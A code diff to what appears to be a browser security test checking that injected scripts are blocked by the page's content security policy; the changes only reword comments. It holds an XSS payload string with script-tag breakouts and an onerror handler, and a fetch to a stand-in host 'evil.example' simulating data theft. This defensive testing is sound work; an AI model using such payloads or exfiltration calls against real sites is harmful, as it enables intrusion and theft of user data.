@@ -2,7 +2,7 @@ import { expect, openPage, test } from "../support/journey.ts";
 import { ADMIN } from "../support/people.ts";
 
 const SCRIPT = "window.hasRun = true";
-/** What breaks out of a text, an attribute, the page's data, its JSON-LD or its title, wherever one forgets to escape. */
+/** Text that breaks out of a text, an attribute, the page's data, its JSON-LD or its title if escaping is missing. */
 const HOSTILE = `</title></script><script>${SCRIPT}</script>"'><img src=x onerror="${SCRIPT}">`;
 
 declare global {
@@ -36,11 +36,11 @@ test("a script that gets into a page does not run: inline, in an attribute, by a
     link.click();
     await fetch("https://evil.example/?stolen").catch(() => undefined);
     await new Promise((resolve) => setTimeout(resolve, 1_000));
-    // Only now: the program that drives the browser may turn text into code, a task of the page's own may not.
+    // Runs after the wait, because the browser driver may turn text into code, but a task of the page may not.
     try {
       Reflect.construct(Function, [script])();
     } catch {
-      // Refused, as it should be.
+      // Refused as expected.
     }
     return names;
   }, SCRIPT);
@@ -55,7 +55,7 @@ test("a script that gets into a page does not run: inline, in an attribute, by a
   ]) {
     expect(violated, directive).toContain(directive);
   }
-  // The browser told of each of them, which is what this was about.
+  // The browser reported each of them, as expected.
   complaints.length = 0;
 });
 
